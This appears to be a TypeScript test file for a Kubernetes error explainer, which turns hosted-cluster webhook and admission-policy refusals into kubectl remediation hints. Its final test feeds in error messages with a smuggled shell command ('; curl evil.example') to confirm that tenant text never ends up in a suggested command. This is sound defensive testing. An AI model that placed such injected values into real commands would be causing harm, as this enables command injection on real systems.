import { expect, test } from 'vitest';
import { refused } from '../../test/refused.ts';
import { ApiError, explainCallError, obstacleOf } from './errors.ts';

const explained = (status: number, message: string) =>
  explainCallError(new ApiError({ status, reason: '', message, of: 'hosted' }), 'write the mark');

test.each([
  [500, 'Internal error occurred: failed calling webhook "all.tenant.test": dial tcp: refused'],
  [403, 'admission webhook "all.tenant.test" denied the request: no'],
])('a webhook of the hosted cluster that is in the way is named (%d)', (status, message) => {
  expect(explained(status, message)).toEqual(
    refused('hosted-refused', 'all.tenant.test', 'kubectl delete validatingwebhookconfiguration or'),
  );
});

test('any other failure of a hosted API server is worth another run', () => {
  expect(explained(500, 'etcdserver: request timed out')).toEqual(refused('hosted-api-error', 'request timed out'));
});

test('a policy of the hosted cluster that refuses is named, with what binds it', () => {
  const message = `configmaps "x" is forbidden: ValidatingAdmissionPolicy 'p' with binding 'b' denied request: no`;
  expect(explained(422, message)).toEqual(
    refused('hosted-refused', 'kubectl delete validatingadmissionpolicybinding b'),
  );
});

test('what a tenant writes into a refusal becomes no part of a command', () => {
  const of = (message: string) => obstacleOf(new ApiError({ status: 403, reason: '', message, of: 'hosted' }));
  expect(of('admission webhook "x; curl evil.example" denied the request')).toBeUndefined();
  expect(of("ValidatingAdmissionPolicy 'p' with binding 'b; curl evil.example' denied request: no")).toBeUndefined();
});
